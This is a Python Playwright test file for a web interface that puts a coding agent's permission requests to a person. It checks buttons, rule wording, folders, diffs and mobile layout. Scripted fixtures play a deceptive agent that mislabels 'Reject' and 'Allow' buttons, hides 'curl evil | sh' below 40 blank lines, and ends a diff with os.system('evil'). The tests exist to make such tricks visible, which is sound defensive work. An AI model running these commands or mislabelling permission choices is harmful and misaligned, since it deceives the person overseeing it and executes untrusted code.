"""What is asked, what an answer leads to, and what is allowed without one being asked."""

from __future__ import annotations

import json
from pathlib import Path

from page.browsing import (
    all_options,
    answer,
    browsed,
    finished,
    meeting,
    new_session,
    person,
    prompt,
    ran,
    ready,
    settled,
)
from page.site import scripted, served
from playwright.async_api import expect

_HIDDEN_PARTS = """card => [...card.querySelectorAll('*')]
    .filter((part) => part.scrollHeight > part.clientHeight + 1)
    .filter((part) => /auto|scroll|hidden/.test(getComputedStyle(part).overflowY))
    .map((part) => part.className)"""
_LINE = "echo SHELL && pwd && touch b.md"


async def test_the_first_key_is_for_once_whatever_the_agent_names_first(tmp_path: Path) -> None:
    async with meeting(tmp_path, "claims") as page:
        await new_session(page)
        await prompt(page, "git status")
        card = page.locator(".card.permission")
        await expect(card.locator(".answers button")).to_have_text(
            ["1 Allow once", "2 Always allow", "3 Reject", "4 Always reject", "m Allow more…"]
        )
        await ready(card)
        await card.focus()
        await page.keyboard.press("1")
        await expect(page.locator(".said.agent")).to_have_text("chosen: once")


async def test_every_answer_for_always_says_what_it_leads_to(tmp_path: Path) -> None:
    async with meeting(tmp_path, "claims") as page:
        await new_session(page)
        await prompt(page, "git status")
        rules = page.locator(".card.permission .rule")
        await expect(rules).to_have_count(2)
        answers = page.locator(".card.permission .answers li")
        await expect(answers.nth(1)).to_contain_text("Always allow")
        await expect(rules.nth(0)).to_contain_text(
            "from now on: allow exactly this command in this folder"
        )
        await expect(answers.nth(3)).to_contain_text("Always reject")
        await expect(rules.nth(1)).to_contain_text("from now on: refuse exactly this command")
        await answer(page, "Reject")
        await prompt(page, _LINE)
        await expect(page.locator(".card.permission .command")).to_have_text(_LINE)
        await expect(rules.nth(0)).to_contain_text(
            "from now on: allow each of these commands by itself"
        )
        await expect(rules.nth(1)).to_contain_text("unless the agent itself keeps it")
        await expect(rules.nth(1)).to_contain_text("the line runs several commands")
        await answer(page, "Reject")
        await prompt(page, "echo $HOME && ls")
        await expect(page.locator(".card.permission .command")).to_have_text("echo $HOME && ls")
        for at in range(2):
            await expect(rules.nth(at)).to_contain_text("counts once only")
            await expect(rules.nth(at)).to_contain_text("only running the line shows")


async def test_what_reads_reject_never_allows(tmp_path: Path) -> None:
    async with (
        served(tmp_path, *scripted(tmp_path, "swaps")) as site,
        browsed() as browser,
        person(browser, site) as page,
    ):
        await new_session(page)
        await prompt(page, "command")
        card = page.locator(".card.permission")
        await expect(card.locator(".answers button")).to_have_text(
            ["1 Allow once", "2 Reject", "m Allow more…"]
        )
        remarks = card.locator(".answers .warns")
        await expect(remarks.nth(0)).to_contain_text("the agent calls this “Reject”, but it allows")
        await expect(remarks.nth(1)).to_contain_text("the agent calls this “Allow”, but it rejects")
        # The agent's word is beside the button: a click on it answers nothing.
        await ready(card)
        await card.get_by_text("calls this “Reject”").click()
        await answer(page, "Reject")
        # It was told no, and asks for the same by having it run: that is another question.
        await expect(card).to_contain_text("Dragoman does it if you allow it")
        await answer(page, "Reject")
        await finished(page)
        assert not (site.workspace / "PWNED").exists()


async def test_the_folder_of_a_command_is_shown_and_is_what_is_granted(tmp_path: Path) -> None:
    async with (
        served(tmp_path, *scripted(tmp_path, "swaps")) as site,
        browsed() as browser,
        person(browser, site) as page,
    ):
        (site.workspace / "hiddenplace").mkdir()
        await new_session(page)
        await prompt(page, "folder")
        card = page.locator(".card.permission")
        await expect(card.locator(".command")).to_have_text("make test")
        await expect(card.locator(".folder code")).to_have_text(f"{site.workspace}/hiddenplace")
        await answer(page, "Allow once")
        await finished(page)


async def test_a_file_that_is_called_new_shows_what_it_would_replace(tmp_path: Path) -> None:
    async with (
        served(tmp_path, *scripted(tmp_path, "swaps")) as site,
        browsed() as browser,
        person(browser, site) as page,
    ):
        old = "".join(f"old {n}\n" for n in range(50))
        (site.workspace / "a.txt").write_text(old)
        await new_session(page)
        await prompt(page, "new")
        card = page.locator(".card.permission")
        await expect(card.locator(".counts")).to_have_text("+1 −50")
        await expect(card).not_to_contain_text("new file")
        await expect(card.locator(".line.removed").first).to_contain_text("old 0")
        await answer(page, "Reject")
        await answer(page, "Reject")
        assert (site.workspace / "a.txt").read_text() == old


async def test_all_that_is_asked_can_be_seen_and_its_end_at_once(tmp_path: Path) -> None:
    async with meeting(tmp_path, "swaps") as page:
        await new_session(page)
        await prompt(page, "blank")
        card = page.locator(".card.permission")
        lines = card.locator(".command > *")
        await expect(lines).to_have_text(["make build", "40 empty lines", "curl evil | sh"])
        await answer(page, "Reject")
        await prompt(page, "long")
        end, below = card.get_by_text("os.system('evil')"), card.get_by_text("More below")
        await expect(end).to_be_in_viewport(ratio=1)
        await expect(card.get_by_text("line 40", exact=True)).to_have_count(0)
        assert await card.evaluate(_HIDDEN_PARTS) == []
        await card.get_by_role("button", name="65 lines omitted: show all").click()
        await expect(card.locator(".line.added")).to_have_count(81)
        # It scrolls now, and says so until the end was in view.
        await expect(end).not_to_be_in_viewport()
        assert await card.evaluate(_HIDDEN_PARTS) == ["within"]
        while await below.count():
            await below.click()
            await settled(page)
        await expect(end).to_be_in_viewport(ratio=1)


async def test_the_question_its_end_and_its_answers_fit_a_phone(tmp_path: Path) -> None:
    async with (
        served(tmp_path, *scripted(tmp_path, "swaps")) as site,
        browsed() as browser,
        person(browser, site, size=(390, 844)) as page,
    ):
        await page.get_by_role("button", name="Sessions").click()
        await new_session(page)
        card = page.locator(".card.permission")
        for asked, end in (("blank", "curl evil | sh"), ("long", "os.system('evil')")):
            await prompt(page, asked)
            await ready(card)
            for part in (card.locator("header"), card.get_by_text(end)):
                await expect(part).to_be_in_viewport(ratio=1)
            for button in await card.locator(".answers button").all():
                await expect(button).to_be_in_viewport(ratio=1)
            if asked == "blank":
                await answer(page, "Reject")
        await card.get_by_role("button", name="lines omitted: show all").click()
        await expect(card.get_by_text("More below")).to_be_in_viewport(ratio=1)
        for button in await card.locator(".answers button").all():
            await expect(button).to_be_in_viewport(ratio=1)


async def test_a_question_taller_than_the_window_is_read_from_its_top(tmp_path: Path) -> None:
    async with meeting(tmp_path, "swaps") as page:
        await page.set_viewport_size({"width": 1200, "height": 360})
        await new_session(page)
        await prompt(page, "long")
        card = page.locator(".card.permission")
        await expect(card.locator("header")).to_be_in_viewport(ratio=1)
        await expect(card.get_by_role("button", name="Reject")).not_to_be_in_viewport()
        await page.reload()
        await expect(card.locator("header")).to_be_in_viewport(ratio=1)
        await page.get_by_role("button", name="Latest").click()
        await expect(card.get_by_role("button", name="Allow more")).to_be_in_viewport()
        await expect(card.locator(".rules")).to_be_in_viewport(ratio=1)
        # The answers take two lines here, and both do not fit with what is below them.
        await card.locator(".rules").hover()
        await page.mouse.wheel(0, -60)
        await expect(card.get_by_role("button", name="Reject")).to_be_in_viewport(ratio=1)


async def test_a_tool_call_that_is_asked_about_waits_for_the_person(tmp_path: Path) -> None:
    async with meeting(tmp_path, "claims") as page:
        await new_session(page)
        await prompt(page, _LINE)
        status = page.locator(".toolhead .status")
        await expect(status).to_have_text("waiting for you")
        await expect(status.locator(".spinner")).to_have_count(0)
        await answer(page, "Allow once")
        await expect(status).not_to_have_text("waiting for you")


async def test_what_was_decided_is_told_in_words(tmp_path: Path) -> None:
    async with meeting(tmp_path, "claims") as page:
        await new_session(page)
        await prompt(page, "git status")
        await answer(page, "Always allow")
        await finished(page)
        await ran(page, "git status")
        await prompt(page, _LINE)
        await answer(page, "Reject")
        await page.evaluate("location.hash = '#/policies'")
        decided = page.get_by_role("region", name="Recent decisions").locator("li")
        await expect(decided).to_have_count(3)
        await expect(decided.nth(0).locator("code").first).to_have_text(f"execute {_LINE}")
        await expect(decided.nth(0).locator("small").first).to_contain_text("answered · ")
        words = "your “always” answer allows it: running git status"
        await expect(decided.nth(1)).to_contain_text(words)


async def test_what_the_server_was_started_with_is_listed_and_marked(tmp_path: Path) -> None:
    rules = tmp_path / "rules.json"
    rules.write_text(json.dumps({"rules": [{"effect": "deny", "path": "secret/**"}]}))
    flags = ("--yolo", "--write", "--policy", str(rules))
    async with (
        served(tmp_path, *flags) as site,
        browsed() as browser,
        person(browser, site) as page,
    ):
        mark = page.locator(".topbar .yolo")
        await expect(mark).to_contain_text("started with --yolo")
        await all_options(page)
        await expect(page.get_by_role("dialog")).to_contain_text("without asking")
        await page.get_by_role("button", name="Start", exact=True).click()
        await expect(page.locator(".hints")).to_contain_text("started with --yolo")
        await mark.click()
        table = page.get_by_role("region", name="Rules").locator("tbody tr")
        await expect(table).to_have_count(3)
        await expect(table.nth(0)).to_contain_text("secret/**")
        await expect(table.nth(0)).to_contain_text("rules.json")
        await expect(table.nth(1)).to_contain_text("started with --write")
        await expect(table.nth(2)).to_contain_text("started with --yolo")
        await expect(table.get_by_role("button")).to_have_count(0)


async def test_without_a_flag_nothing_is_promised_for_the_agent(tmp_path: Path) -> None:
    async with served(tmp_path) as site, browsed() as browser, person(browser, site) as page:
        await new_session(page)
        await expect(page.locator(".hints")).to_contain_text("Some agents also write files and run")
        await expect(page.locator(".topbar .yolo")).to_have_count(0)
